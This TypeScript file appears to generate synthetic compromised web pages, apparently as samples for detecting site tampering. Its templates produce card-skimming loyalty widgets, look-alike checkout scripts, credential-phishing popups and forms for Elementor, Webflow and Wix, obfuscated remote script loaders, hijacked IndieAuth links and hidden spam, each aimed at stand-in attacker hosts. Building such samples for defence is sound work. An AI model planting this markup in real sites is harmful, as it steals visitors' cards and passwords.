// Overlay checkouts from look-alike hosts, recalled from memory of the merchant-of-record checkouts (Paddle.js with a vendor id and paddle_button links, Lemon Squeezy's lemon.js and lemonsqueezy-button links, Gumroad's overlay gumroad.js and gumroad-button links, about 2015 onwards) and of skimmer reports on look-alike payment-provider hosts: a buy button beside one of the page's prices whose overlay script and checkout address are on a look-alike of the provider's host.
const overlayCheckout = fresh28("buy button beside a price opening an overlay checkout from a look-alike of a merchant-of-record's host (Paddle, Lemon Squeezy, Gumroad)", (page, rng) => {
  const label = siteOr(rng, page, buyLabels)
  const html = pick(rng, [
    () => { const h = `cdn.${pick(rng, ["paddle-js", "padd1e", "paddle-checkout", "paddlecdn"])}.${pick(rng, ["com", "net", "io"])}`; return `<script src="https://${h}/paddle/paddle.js"></script><script type="text/javascript">Paddle.Setup({vendor:${digits(rng, 6)}});</script><p class="buy"><a href="#!" class="paddle_button" data-product="${digits(rng, 6)}" data-theme="none">${esc(label)}</a></p>` },
    () => { const h = `${pick(rng, ["lemonsqueezy", "lemon-squeezy", "lemonsqeezy", "lemonsqueezy-cdn"])}.${pick(rng, ["co", "io", "net", "shop"])}`; return `<script src="https://assets.${h}/lemon.js" defer></script><p class="buy"><a class="lemonsqueezy-button" href="https://${bare(page)}.${h}/checkout/buy/${uuid(rng)}?embed=1&amp;media=0">${esc(label)}</a></p>` },
    () => { const h = `${pick(rng, ["gumroad", "gum-road", "gumroads", "gumroad-cdn"])}.${pick(rng, ["co", "net", "io", "shop"])}`; return `<script src="https://${h}/js/gumroad.js"></script><p class="buy"><a class="gumroad-button" href="https://${h}/l/${alnum(rng, 5)}?wanted=true">${esc(label)}</a></p>` }
  ])()
  return splices(insert(nearPrice(rng, page), html))
})

interface LoyaltyWords { readonly launcher: string; readonly title: string; readonly body: (n: number) => string; readonly name: string; readonly card: string; readonly expiry: string; readonly link: string; readonly note: string }
const loyaltyWords: T<LoyaltyWords> = {
  en: { launcher: "Rewards", title: "Join our rewards programme", body: (n) => `Link your payment card and get ${n} points at once, then earn points automatically on every purchase.`, name: "Name on card", card: "Card number", expiry: "MM/YY", link: "Link card and claim points", note: "Points are added within 24 hours." },
  fr: { launcher: "Fidélité", title: "Rejoignez notre programme de fidélité", body: (n) => `Associez votre carte de paiement et recevez ${n} points immédiatement, puis cumulez des points à chaque achat.`, name: "Nom sur la carte", card: "Numéro de carte", expiry: "MM/AA", link: "Associer la carte et recevoir les points", note: "Les points sont crédités sous 24 heures." },
  de: { launcher: "Prämien", title: "Werden Sie Mitglied im Prämienprogramm", body: (n) => `Verknüpfen Sie Ihre Zahlungskarte und erhalten Sie sofort ${n} Punkte, danach sammeln Sie bei jedem Einkauf automatisch.`, name: "Name auf der Karte", card: "Kartennummer", expiry: "MM/JJ", link: "Karte verknüpfen und Punkte sichern", note: "Die Punkte werden innerhalb von 24 Stunden gutgeschrieben." },
  es: { launcher: "Recompensas", title: "Únete a nuestro programa de recompensas", body: (n) => `Vincula tu tarjeta de pago y recibe ${n} puntos al instante; después acumularás puntos en cada compra.`, name: "Nombre en la tarjeta", card: "Número de tarjeta", expiry: "MM/AA", link: "Vincular tarjeta y obtener puntos", note: "Los puntos se añaden en 24 horas." },
  nl: { launcher: "Spaarpunten", title: "Doe mee met ons spaarprogramma", body: (n) => `Koppel je betaalkaart en ontvang meteen ${n} punten; daarna spaar je automatisch bij elke aankoop.`, name: "Naam op de kaart", card: "Kaartnummer", expiry: "MM/JJ", link: "Kaart koppelen en punten ontvangen", note: "Punten worden binnen 24 uur bijgeschreven." },
  pt: { launcher: "Recompensas", title: "Participe do nosso programa de pontos", body: (n) => `Vincule seu cartão de pagamento e ganhe ${n} pontos na hora; depois acumule pontos em cada compra.`, name: "Nome no cartão", card: "Número do cartão", expiry: "MM/AA", link: "Vincular cartão e ganhar pontos", note: "Os pontos são creditados em até 24 horas." },
  it: { launcher: "Premi", title: "Entra nel nostro programma fedeltà", body: (n) => `Collega la tua carta di pagamento e ricevi subito ${n} punti, poi accumuli punti a ogni acquisto.`, name: "Nome sulla carta", card: "Numero di carta", expiry: "MM/AA", link: "Collega la carta e ricevi i punti", note: "I punti vengono accreditati entro 24 ore." }
}

// Look-alike loyalty widgets, recalled from memory of the launchers of Smile.io, LoyaltyLion and Yotpo's loyalty programme (a corner button opening a points panel, about 2015 onwards) and of Sansec's notes on skimmers dressed as trusted storefront widgets: a loyalty launcher and panel drawn in the site's name, from a script on a look-alike of the vendor's host, whose "link your card to earn points" form takes the card and posts it to another host.
const loyaltyLookalike = fresh28("look-alike loyalty-points launcher (Smile.io, LoyaltyLion, Yotpo look) whose 'link your card to earn points' form posts the card to another host", (page, rng) => {
  const w = siteOr(rng, page, loyaltyWords)
  const [vid, host] = pick(rng, [
    ["smile-ui-container", `js.${pick(rng, ["smile-io", "smileio", "smile-rewards"])}.${pick(rng, ["com", "net", "co"])}`],
    ["lion-loyalty-panel", `sdk.${pick(rng, ["loyaltylion-cdn", "loyalty-lion", "loyaltylions"])}.${pick(rng, ["com", "net", "io"])}`],
    ["swell-popup", `cdn-${pick(rng, ["loyalty-yotpo", "yotpo-loyalty", "yotpo-rewards"])}.${pick(rng, ["com", "net", "co"])}`]
  ] as const)
  const color = pick(rng, ["#5b4ee5", "#111827", "#0f766e", "#b91c1c", "#1d4ed8"])
  const inp = (ph: string, name: string, ac: string) => `<input name="${name}" placeholder="${esc(ph)}" autocomplete="${ac}" style="display:block;width:100%;box-sizing:border-box;margin:0 0 8px;padding:9px;border:1px solid #ccc;border-radius:6px">`
  const side = pick(rng, ["left:20px", "right:20px"])
  const html = `<script src="https://${host}/${pick(rng, ["js/v1/loader.js", "static/js/launcher.js", "loader/" + alnum(rng, 12) + ".js"])}" async></script><div id="${vid}" style="position:fixed;${side};bottom:84px;z-index:${zTop(rng)};width:320px;max-width:calc(100vw - 40px);background:#fff;color:#222;border-radius:14px;box-shadow:0 8px 32px rgba(0,0,0,.22);font:14px/1.45 ${font(rng)};overflow:hidden"><div style="background:${color};color:#fff;padding:18px"><small>${esc(brandName(page))}</small><h3 style="margin:4px 0 0;font-size:18px">${esc(w.title)}</h3></div><form action="https://${evilHost(rng, page)}/${pick(rng, ["rewards/link", "api/loyalty/enroll", "points/claim"])}" method="post" style="padding:14px 18px"><p style="margin:0 0 10px">${esc(w.body(pick(rng, [250, 500, 1000, 1500])))}</p>${inp(w.name, "cc-name", "cc-name")}${inp(w.card, "cc-number", "cc-number")}<div style="display:flex;gap:8px">${inp(w.expiry, "cc-exp", "cc-exp")}${inp("CVV", "cc-csc", "cc-csc")}</div><button type="submit" style="width:100%;padding:10px;border:0;border-radius:6px;background:${color};color:#fff;font-weight:600">${esc(w.link)}</button><p style="margin:8px 0 0;font-size:11px;color:#666">${esc(w.note)}</p></form></div><button type="button" style="position:fixed;${side};bottom:20px;z-index:${zTop(rng)};padding:12px 18px;border:0;border-radius:24px;background:${color};color:#fff;font-weight:600;box-shadow:0 4px 14px rgba(0,0,0,.25)">&#9733; ${esc(w.launcher)}</button>`
  return splices(insert(overlaySpot(rng, page), html))
})

const followWords: T<string> = { en: "Follow us on Facebook", fr: "Suivez-nous sur Facebook", de: "Folgen Sie uns auf Facebook", es: "Síguenos en Facebook", nl: "Volg ons op Facebook", pt: "Siga-nos no Facebook", it: "Seguici su Facebook" }

// Social plugins turned to impostor pages, recalled from memory of Facebook's Like button and Page plugin (iframes on facebook.com/plugins/ with the liked address in an href parameter, about 2010 onwards), X's follow button (screen_name) and of scam reports on impostor pages that collect a brand's followers before posting giveaways and phishing links: the site's Like, Page or Follow plugin pointed at an impostor page or handle named after it, the plugin otherwise unchanged; on pages without one, a Page plugin for the impostor page added under a heading.
const socialPluginRetarget = fresh28("site's Facebook Like, Page or X follow plugin pointed at an impostor page or handle named after the site (or such a Page plugin added)", (page, rng) => {
  const b = bare(page)
  const cap = b.charAt(0).toUpperCase() + b.slice(1)
  const handle = pick(rng, [`${cap}Official`, `${b}.support`, `${b}help`, `${b}${digits(rng, 2)}`, `${cap}.Official.Page`, `${b}-care`, `${cap}HQ.${pick(rng, ["Team", "Info"])}`])
  const fbPage = `https://www.facebook.com/${handle}`
  const out: Array<Splice> = []
  for (const el of page.spots.elements) {
    if (el.inert || out.length >= 3) continue
    const src = el.name === "iframe" ? el.attribs.src ?? "" : ""
    if (/facebook\.com\/(v[\d.]+\/)?plugins\/(like|likebox|page|follow|share_button)\.php/i.test(src)) {
      const v = attrValue(page.html, el, "src")
      const raw = v === null ? "" : page.html.slice(v.start, v.end)
      const next = /([?&](?:amp;)?href=)[^&]*/i.test(raw) ? raw.replace(/([?&](?:amp;)?href=)[^&]*/i, `$1${encodeURIComponent(fbPage)}`) : `${raw}${raw.includes("?") ? "&amp;" : "?"}href=${encodeURIComponent(fbPage)}`
      if (v !== null && next !== raw) out.push(replace(v, next))
    } else if (el.name === "iframe" && /platform\.twitter\.com\/widgets\/follow_button/i.test(src)) {
      const v = attrValue(page.html, el, "src")
      const raw = v === null ? "" : page.html.slice(v.start, v.end)
      const next = raw.replace(/([?&](?:amp;)?screen_name=)[^&]*/i, `$1${handle.replace(/[^A-Za-z0-9_]/g, "_")}`)
      if (v !== null && next !== raw) out.push(replace(v, next))
    } else if (/^(div|fb:like|fb:like-box|fb:page|fb:follow)$/.test(el.name) && /\bfb[-:](like|page|like-box|follow)\b/.test(`${el.attribs.class ?? ""} ${el.name}`)) {
      const v = attrValue(page.html, el, "data-href") ?? attrValue(page.html, el, "href")
      if (v !== null) out.push(replace(v, esc(fbPage)))
    }
  }
  if (out.length > 0) return { splices: out }
  const iframe = `<iframe src="https://www.facebook.com/plugins/page.php?href=${encodeURIComponent(fbPage)}&amp;tabs=timeline&amp;width=340&amp;height=${pick(rng, ["300", "500", "130"])}&amp;small_header=false&amp;adapt_container_width=true&amp;hide_cover=false&amp;show_facepile=true" width="340" height="300" style="border:none;overflow:hidden" scrolling="no" frameborder="0" allowfullscreen="true" allow="autoplay; clipboard-write; encrypted-media; picture-in-picture; web-share"></iframe>`
  return splices(insert(pick(rng, [slotAt(page.spots, "bottom"), anySlot(rng, page.spots)]), `<div class="${pick(rng, ["fb-widget", "social-box", "facebook-feed"])}"><h3>${esc(siteOr(rng, page, followWords))}</h3>${iframe}</div>`))
})

// IndieAuth and OpenID delegation moved away, recalled from memory of the IndieAuth specification (authorization_endpoint and token_endpoint links on a personal site decide who may sign in elsewhere as that site, W3C note 2018 and later revisions) and of OpenID 1.1 and 2.0 delegation (openid.server and openid.delegate links): these links in the head pointed at another host, so that whoever runs it can sign in to IndieWeb services as the site; nothing shown.
const indieAuthMove = fresh28("IndieAuth endpoints or OpenID delegation links in the head pointed at another host, so whoever runs it can sign in elsewhere as the site", (page, rng) => {
  const h = pick(rng, [() => `auth.${randomDomain(rng)}`, () => `${pick(rng, ["indieauth", "indielogin", "id", "login"])}.${brandLookalike(rng, page.site.brand)}`, () => `${pick(rng, ["indie-auth", "indielogin-", "relme"])}${alnum(rng, 3)}.${tld(rng)}`])()
  const tags = pick(rng, [
    () => `<link rel="authorization_endpoint" href="https://${h}/auth"><link rel="token_endpoint" href="https://${h}/token">${chance(rng, 0.5) ? `<link rel="micropub" href="https://${h}/micropub">` : ""}`,
    () => `<link rel="indieauth-metadata" href="https://${h}/.well-known/oauth-authorization-server">${chance(rng, 0.5) ? `<link rel="authorization_endpoint" href="https://${h}/authorize">` : ""}`,
    () => `<link rel="openid.server" href="https://${h}/openid/server"><link rel="openid.delegate" href="https://${h}/${bare(page)}/"><link rel="openid2.provider" href="https://${h}/openid/server"><link rel="openid2.local_id" href="https://${h}/${bare(page)}/">`
  ])()
  return splices(insert(pick(rng, [head(page), headStart(page)]), tags))
})

// ———————————————————————————— site builders ————————————————————————————

const eid = (rng: Rng) => hex(rng, 7)
const elementorWrap = (rng: Rng, inner: string, cls = "") => {
  const s = eid(rng)
  const c = eid(rng)
  return `<section class="elementor-section elementor-top-section elementor-element elementor-element-${s} elementor-section-boxed elementor-section-height-default${cls}" data-id="${s}" data-element_type="section"><div class="elementor-container elementor-column-gap-default"><div class="elementor-column elementor-col-100 elementor-top-column elementor-element elementor-element-${c}" data-id="${c}" data-element_type="column"><div class="elementor-widget-wrap elementor-element-populated">${inner}</div></div></div></section>`
}
const elementorWidget = (rng: Rng, type: string, inner: string, cls = "") => {
  const w = eid(rng)
  return `<div class="elementor-element elementor-element-${w} elementor-widget elementor-widget-${type}${cls}" data-id="${w}" data-element_type="widget" data-widget_type="${type}.default"><div class="elementor-widget-container">${inner}</div></div>`
}

interface PopupWords { readonly title: string; readonly body: string; readonly email: string; readonly password: string; readonly submit: string; readonly docTitle: string; readonly docBody: string; readonly docButton: string }
const popupWords: T<PopupWords> = {
  en: { title: "Your session has expired", body: "For your security, please sign in again to continue.", email: "E-mail address", password: "Password", submit: "Sign in", docTitle: "You have a new shared document", docBody: "A document has been shared with you. Open it to view and sign.", docButton: "View document" },
  fr: { title: "Votre session a expiré", body: "Pour votre sécurité, veuillez vous reconnecter pour continuer.", email: "Adresse e-mail", password: "Mot de passe", submit: "Se connecter", docTitle: "Un nouveau document a été partagé avec vous", docBody: "Un document vous a été transmis. Ouvrez-le pour le consulter et le signer.", docButton: "Voir le document" },
  de: { title: "Ihre Sitzung ist abgelaufen", body: "Zu Ihrer Sicherheit melden Sie sich bitte erneut an, um fortzufahren.", email: "E-Mail-Adresse", password: "Passwort", submit: "Anmelden", docTitle: "Ein neues Dokument wurde mit Ihnen geteilt", docBody: "Ihnen wurde ein Dokument freigegeben. Öffnen Sie es, um es anzusehen und zu unterschreiben.", docButton: "Dokument ansehen" },
  es: { title: "Tu sesión ha caducado", body: "Por tu seguridad, vuelve a iniciar sesión para continuar.", email: "Correo electrónico", password: "Contraseña", submit: "Iniciar sesión", docTitle: "Tienes un nuevo documento compartido", docBody: "Se ha compartido un documento contigo. Ábrelo para verlo y firmarlo.", docButton: "Ver documento" },
  nl: { title: "Je sessie is verlopen", body: "Log voor je veiligheid opnieuw in om verder te gaan.", email: "E-mailadres", password: "Wachtwoord", submit: "Inloggen", docTitle: "Er is een nieuw document met je gedeeld", docBody: "Er is een document met je gedeeld. Open het om het te bekijken en te ondertekenen.", docButton: "Document bekijken" },
  pt: { title: "Sua sessão expirou", body: "Para sua segurança, entre novamente para continuar.", email: "Endereço de e-mail", password: "Senha", submit: "Entrar", docTitle: "Você tem um novo documento compartilhado", docBody: "Um documento foi compartilhado com você. Abra-o para visualizar e assinar.", docButton: "Ver documento" },
  it: { title: "La tua sessione è scaduta", body: "Per la tua sicurezza, accedi di nuovo per continuare.", email: "Indirizzo e-mail", password: "Password", submit: "Accedi", docTitle: "Hai un nuovo documento condiviso", docBody: "Un documento è stato condiviso con te. Aprilo per visualizzarlo e firmarlo.", docButton: "Visualizza documento" }
}

// Popups made in the page builder, recalled from memory of Sucuri's and Wordfence's notes on intruders using Elementor Pro's popup builder and hijacked editor accounts (the Elementor Pro and Essential Addons privilege-escalation flaws exploited in spring 2023), and of Elementor's popup markup (data-elementor-type="popup", elementor-location-popup, a page-load trigger in data-elementor-settings): a popup shown on page load, in the builder's own markup, with a sign-in form or a shared-document button leading to another host.
const elementorPopup = fresh28("Elementor popup (builder markup, page-load trigger) with a 'session expired' sign-in form or a 'shared document' button leading to another host", (page, rng) => {
  const w = siteOr(rng, page, popupWords)
  const id = between(rng, 100, 9999)
  const host = evilHost(rng, page)
  const heading = (t: string) => elementorWidget(rng, "heading", `<h2 class="elementor-heading-title elementor-size-default">${esc(t)}</h2>`)
  const text = (t: string) => elementorWidget(rng, "text-editor", `<p>${esc(t)}</p>`)
  const field = (label: string, type: string, name: string) => `<div class="elementor-field-type-${type} elementor-field-group elementor-column elementor-field-group-${name} elementor-col-100 elementor-field-required"><label for="form-field-${name}" class="elementor-field-label">${esc(label)}</label><input size="1" type="${type}" name="form_fields[${name}]" id="form-field-${name}" class="elementor-field elementor-size-sm elementor-field-textual" required="required"></div>`
  const body = chance(rng, 0.6)
    ? heading(w.title) + text(w.body) + elementorWidget(rng, "form", `<form class="elementor-form" method="post" name="${pick(rng, ["Login", "Session", "Verify", "New Form"])}" action="https://${host}/${pick(rng, ["wp-login.php", "login/verify", "session/renew", "auth"])}"><div class="elementor-form-fields-wrapper elementor-labels-above">${field(w.email, "email", "email")}${field(w.password, "password", "password")}<div class="elementor-field-group elementor-column elementor-field-type-submit elementor-col-100 e-form__buttons"><button type="submit" class="elementor-button elementor-size-sm"><span class="elementor-button-content-wrapper"><span class="elementor-button-text">${esc(w.submit)}</span></span></button></div></div></form>`)
    : heading(w.docTitle) + text(w.docBody) + elementorWidget(rng, "button", `<div class="elementor-button-wrapper"><a class="elementor-button elementor-button-link elementor-size-md" href="https://${host}/${pick(rng, ["doc", "share", "view", "s"])}/${alnum(rng, 10)}"><span class="elementor-button-content-wrapper"><span class="elementor-button-text">${esc(w.docButton)}</span></span></a></div>`)
  const settings = `{&quot;triggers&quot;:{&quot;page_load&quot;:&quot;yes&quot;,&quot;page_load_delay&quot;:${between(rng, 0, 8)}},&quot;timing&quot;:[],&quot;prevent_close_on_background_click&quot;:&quot;yes&quot;,&quot;prevent_close_on_esc_key&quot;:&quot;yes&quot;}`
  const html = `<div data-elementor-type="popup" data-elementor-id="${id}" class="elementor elementor-${id} elementor-location-popup" data-elementor-settings="${settings}" data-elementor-post-type="elementor_library">${elementorWrap(rng, body)}</div>`
  return splices(insert(pick(rng, [bottom(page), slotAt(page.spots, "bottom"), top(page)]), html))
})

// Code added through the builder's HTML widget, recalled from memory of Sucuri's write-ups on scripts injected into Elementor's stored page data (_elementor_data) and HTML widgets after editor accounts were taken over (about 2021–2024): a new section in the builder's markup holding only an HTML widget whose content is a script from another host (or a short loader), so the section renders nothing.
const elementorHtmlWidget = fresh28("Elementor section holding only an HTML widget whose content is a script from another host (or a loader), rendering nothing", (page, rng) => {
  const host = evilHost(rng, page)
  const url = `https://${host}/${pick(rng, ["wp-content/plugins/elementor/assets/js/frontend.min.js", "js/jquery.min.js", "lib/analytics.js", `assets/${alnum(rng, 8)}.js`, "cdn/elementor-pro.js"])}?ver=${pick(rng, ["3.21.4", "3.18.3", "3.23.0", "3.25.1"])}`
  const payload = pick(rng, [
    `<script src="${url}"></script>`,
    `<script>(function(d,s){var e=d.createElement(s);e.src=atob("${b64(url)}");e.async=true;(d.body||d.head).appendChild(e)})(document,"script");</script>`,
    `<script type="text/javascript">window.addEventListener("load",function(){var s=document.createElement("script");s.src=${js(url)};document.head.appendChild(s)});</script>`
  ])
  const widgets = elementorWidget(rng, "html", payload) + (chance(rng, 0.4) ? elementorWidget(rng, "spacer", `<div class="elementor-spacer"><div class="elementor-spacer-inner"></div></div>`) : "")
  const id = between(rng, 10, 9999)
  const html = `<div data-elementor-type="${pick(rng, ["wp-page", "footer", "section"])}" data-elementor-id="${id}" class="elementor elementor-${id}">${elementorWrap(rng, widgets)}</div>`
  return splices(insert(pick(rng, [slotAt(page.spots, "bottom"), bottom(page), slotAt(page.spots, "middle")]), html))
})

const spamWords: T<ReadonlyArray<string>> = {
  en: ["online casino", "payday loans", "buy viagra online", "replica watches", "essay writing service", "no deposit bonus", "cheap cialis", "bad credit loans"],
  fr: ["casino en ligne", "prêt rapide sans justificatif", "acheter viagra", "montres réplique", "bonus sans dépôt", "cialis pas cher", "crédit sans banque"],
  de: ["Online Casino", "Kredit ohne Schufa", "Viagra kaufen", "Replica Uhren", "Bonus ohne Einzahlung", "Cialis günstig", "Sofortkredit"],
  es: ["casino online", "préstamos rápidos", "comprar viagra", "relojes réplica", "bono sin depósito", "cialis barato", "créditos sin aval"],
  nl: ["online casino", "snel geld lenen", "viagra kopen", "replica horloges", "bonus zonder storting", "cialis goedkoop", "lenen zonder BKR"],
  pt: ["cassino online", "empréstimo rápido", "comprar viagra", "relógios réplica", "bônus sem depósito", "cialis barato", "crédito sem consulta"],
  it: ["casinò online", "prestiti veloci", "comprare viagra", "orologi replica", "bonus senza deposito", "cialis economico", "prestiti senza busta paga"]
}

// Spam hidden with the builder's own responsive switches, recalled from memory of Sucuri's notes on SEO spam placed in page-builder blocks of hacked WordPress sites (about 2019–2024) and of the builders' "hide on desktop, tablet and mobile" settings (Elementor's elementor-hidden-desktop/-tablet/-mobile classes, WPBakery's vc_hidden-lg/-md/-sm/-xs, Divi's per-module display:none rules in media queries): a block of spam links in the site's language, in the builder's markup, switched off on every device.
const builderHiddenSpam = fresh28("spam links in the site's language in a page-builder block switched off on every device by the builder's own visibility settings (Elementor, WPBakery, Divi)", (page, rng) => {
  const words = sample(rng, siteOr(rng, page, spamWords), between(rng, 3, 6))
  const anchors = words.map((k) => `<a href="https://${randomDomain(rng)}/${pick(rng, ["", `${slug(k)}/`, `?p=${digits(rng, 4)}`, `go/${slug(k)}`])}">${esc(k)}</a>`).join(pick(rng, [" ", " | ", ", ", " · "]))
  const html = pick(rng, [
    () => elementorWrap(rng, elementorWidget(rng, "text-editor", `<p>${anchors}</p>`, " elementor-hidden-desktop elementor-hidden-tablet elementor-hidden-mobile")),
    () => `<div class="vc_row wpb_row vc_row-fluid vc_hidden-lg vc_hidden-md vc_hidden-sm vc_hidden-xs"><div class="wpb_column vc_column_container vc_col-sm-12"><div class="vc_column-inner"><div class="wpb_wrapper"><div class="wpb_text_column wpb_content_element"><div class="wpb_wrapper"><p>${anchors}</p></div></div></div></div></div></div>`,
    () => {
      const n = between(rng, 3, 40)
      return `<style id="et-builder-module-design-${between(rng, 10, 9999)}-cached-inline-styles">@media only screen and (min-width:981px){.et_pb_text_${n}{display:none!important}}@media only screen and (min-width:768px) and (max-width:980px){.et_pb_text_${n}{display:none!important}}@media only screen and (max-width:767px){.et_pb_text_${n}{display:none!important}}</style><div class="et_pb_section et_pb_section_${between(rng, 1, 20)} et_section_regular"><div class="et_pb_row et_pb_row_${between(rng, 1, 30)}"><div class="et_pb_column et_pb_column_4_4 et_pb_column_${between(rng, 1, 40)} et-last-child"><div class="et_pb_module et_pb_text et_pb_text_${n} et_pb_text_align_left et_pb_bg_layout_light"><div class="et_pb_text_inner"><p>${anchors}</p></div></div></div></div></div>`
    }
  ])()
  return splices(insert(pick(rng, [slotAt(page.spots, "bottom"), bottom(page), anySlot(rng, page.spots)]), html))
})

interface PortalWords { readonly title: string; readonly body: string }
const portalWords: T<ReadonlyArray<PortalWords>> = {
  en: [{ title: "Client portal", body: "Sign in below to view your documents and pay outstanding invoices." }, { title: "Secure document area", body: "Your statement is ready. Sign in with your e-mail account to open it." }],
  fr: [{ title: "Espace client", body: "Connectez-vous ci-dessous pour consulter vos documents et régler vos factures en attente." }, { title: "Espace documents sécurisé", body: "Votre relevé est disponible. Connectez-vous avec votre compte e-mail pour l'ouvrir." }],
  de: [{ title: "Kundenportal", body: "Melden Sie sich unten an, um Ihre Dokumente einzusehen und offene Rechnungen zu bezahlen." }, { title: "Sicherer Dokumentenbereich", body: "Ihr Kontoauszug liegt bereit. Melden Sie sich mit Ihrem E-Mail-Konto an, um ihn zu öffnen." }],
  es: [{ title: "Portal de clientes", body: "Inicia sesión a continuación para ver tus documentos y pagar las facturas pendientes." }, { title: "Área segura de documentos", body: "Tu extracto está disponible. Inicia sesión con tu cuenta de correo para abrirlo." }],
  nl: [{ title: "Klantenportaal", body: "Log hieronder in om je documenten te bekijken en openstaande facturen te betalen." }, { title: "Beveiligde documentenomgeving", body: "Je overzicht staat klaar. Log in met je e-mailaccount om het te openen." }],
  pt: [{ title: "Portal do cliente", body: "Entre abaixo para ver seus documentos e pagar faturas em aberto." }, { title: "Área segura de documentos", body: "Seu extrato está disponível. Entre com sua conta de e-mail para abri-lo." }],
  it: [{ title: "Area clienti", body: "Accedi qui sotto per consultare i tuoi documenti e pagare le fatture in sospeso." }, { title: "Area documenti protetta", body: "Il tuo estratto conto è pronto. Accedi con il tuo account e-mail per aprirlo." }]
}

// Wix's user-content host as cover, recalled from memory of Proofpoint's, Netskope's and Cofense's reports on phishing pages built with Wix and served from its HTML-embed host (*.filesusr.com) and wixsite.com (about 2019–2023), and of Wix's HTML iframe component (data-testid="htmlComponent", a wix-iframe element around an iframe on filesusr.com): a section in Wix's component markup with a heading and a line in the site's language, framing a "client portal" sign-in served from Wix's user-content host.
const wixHtmlEmbed = fresh28("Wix HTML-embed component framing a 'client portal' sign-in served from Wix's user-content host (filesusr.com), with a heading in the site's language", (page, rng) => {
  const w = pick(rng, siteOr(rng, page, portalWords))
  const comp = () => `comp-${alnum(rng, 8)}`
  const user = `${pick(rng, [alnum(rng, 8), `${bare(page)}${digits(rng, 2)}`, `${pick(rng, ["info", "admin", "office"])}${alnum(rng, 4)}`])}`
  const src = chance(rng, 0.7) ? `https://${user}-wixsite-com-${pick(rng, [bare(page), "mysite", "portal", "client"])}.filesusr.com/html/${hex(rng, 6)}_${hex(rng, 32)}.html` : `https://${user}.wixsite.com/${pick(rng, ["portal", "clientarea", bare(page), "documents"])}`
  const [a, b, c, d] = [comp(), comp(), comp(), comp()]
  const html = `<section id="${a}" class="${a} wixui-section"><div data-testid="columns" class="${alnum(rng, 8)}"><div id="${b}" class="${b} wixui-column-strip__column"><div id="${c}" class="${c} wixui-rich-text" data-testid="richTextElement"><h2 class="font_2 wixui-rich-text__text">${esc(w.title)}</h2><p class="font_8 wixui-rich-text__text">${esc(w.body)}</p></div><div id="${d}" class="${d}" data-testid="htmlComponent"><wix-iframe data-src=""><iframe class="${alnum(rng, 8)}" title="Embedded Content" aria-label="Embedded Content" name="htmlComp-iframe" width="100%" height="${pick(rng, ["480", "560", "620"])}" data-src="" allow="fullscreen; autoplay; clipboard-write; payment" src="${esc(src)}"></iframe></wix-iframe></div></div></div></section>`
  return splices(insert(blockSpot(rng, page), html))
})

interface WfWords { readonly title: string; readonly body: string; readonly email: string; readonly password: string; readonly submit: string; readonly wait: string; readonly done: string; readonly fail: string }
const wfWords: T<WfWords> = {
  en: { title: "Members' area", body: "Sign in with the e-mail address and password you use for your account.", email: "E-mail", password: "Password", submit: "Sign in", wait: "Please wait...", done: "Thank you! Redirecting...", fail: "Oops! Something went wrong while submitting the form." },
  fr: { title: "Espace membres", body: "Connectez-vous avec l'adresse e-mail et le mot de passe de votre compte.", email: "E-mail", password: "Mot de passe", submit: "Se connecter", wait: "Veuillez patienter...", done: "Merci ! Redirection en cours...", fail: "Oups ! Une erreur s'est produite lors de l'envoi du formulaire." },
  de: { title: "Mitgliederbereich", body: "Melden Sie sich mit der E-Mail-Adresse und dem Passwort Ihres Kontos an.", email: "E-Mail", password: "Passwort", submit: "Anmelden", wait: "Bitte warten...", done: "Danke! Sie werden weitergeleitet...", fail: "Hoppla! Beim Absenden des Formulars ist ein Fehler aufgetreten." },
  es: { title: "Área de socios", body: "Inicia sesión con el correo y la contraseña de tu cuenta.", email: "Correo electrónico", password: "Contraseña", submit: "Iniciar sesión", wait: "Espera, por favor...", done: "¡Gracias! Redirigiendo...", fail: "¡Vaya! Algo salió mal al enviar el formulario." },
  nl: { title: "Ledenomgeving", body: "Log in met het e-mailadres en wachtwoord van je account.", email: "E-mail", password: "Wachtwoord", submit: "Inloggen", wait: "Even geduld...", done: "Bedankt! Je wordt doorgestuurd...", fail: "Oeps! Er ging iets mis bij het verzenden van het formulier." },
  pt: { title: "Área de membros", body: "Entre com o e-mail e a senha da sua conta.", email: "E-mail", password: "Senha", submit: "Entrar", wait: "Aguarde...", done: "Obrigado! Redirecionando...", fail: "Ops! Algo deu errado ao enviar o formulário." },
  it: { title: "Area soci", body: "Accedi con l'indirizzo e-mail e la password del tuo account.", email: "E-mail", password: "Password", submit: "Accedi", wait: "Attendere...", done: "Grazie! Reindirizzamento in corso...", fail: "Ops! Si è verificato un errore durante l'invio del modulo." }
}

// Webflow forms pointed elsewhere, recalled from memory of Netskope's reports on phishing and crypto-wallet pages built with Webflow (about 2023–2024) and of Webflow's form markup (a w-form block, wf-form- ids, data-name, w-input fields, w-form-done and w-form-fail states, an optional custom action and data-redirect): a members' sign-in in Webflow's form markup, in the site's language, whose custom action and redirect are on another host.
const webflowForm = fresh28("Webflow form block (w-form markup) asking members for their e-mail and password, its custom action and redirect on another host", (page, rng) => {
  const w = siteOr(rng, page, wfWords)
  const host = evilHost(rng, page)
  const name = pick(rng, ["Login", "Member Login", "Sign In", "Account"])
  const fid = `wf-form-${name.replace(/ /g, "-")}`
  const next = `https://${host}/${pick(rng, ["ok", "next", "dashboard", "account"])}`
  const inp = (label: string, type: string, n: string) => `<label for="${n}" class="field-label">${esc(label)}</label><input class="w-input" maxlength="256" name="${n}" data-name="${n.charAt(0).toUpperCase() + n.slice(1)}" placeholder="" type="${type}" id="${n}" required="">`
  const html = `<div class="${pick(rng, ["section", "container", "login-section"])} w-container"><h2 class="heading">${esc(w.title)}</h2><p class="paragraph">${esc(w.body)}</p><div class="w-form"><form id="${fid}" name="${fid}" data-name="${name}" method="post" action="https://${host}/${pick(rng, ["login", "api/form", "auth/submit", "members/verify"])}" data-redirect="${next}" redirect="${next}" data-wf-page-id="${hex(rng, 24)}" data-wf-element-id="${uuid(rng)}">${inp(w.email, "email", "email")}${inp(w.password, "password", "password")}<input type="submit" data-wait="${esc(w.wait)}" class="submit-button w-button" value="${esc(w.submit)}"></form><div class="w-form-done"><div>${esc(w.done)}</div></div><div class="w-form-fail"><div>${esc(w.fail)}</div></div></div></div>`
  return splices(insert(blockSpot(rng, page), html))
})

// Copies of a site on builder subdomains, recalled from memory of Proofpoint's and Netskope's reports on phishing copies of brands' sites hosted on Wix, Webflow, Squarespace, Weebly, Framer and Google Sites (about 2020–2024): some of the site's own links (its sign-in, account, contact, donate or shop links first) sent to a copy of the site on a site-builder subdomain named after it, the same path kept.
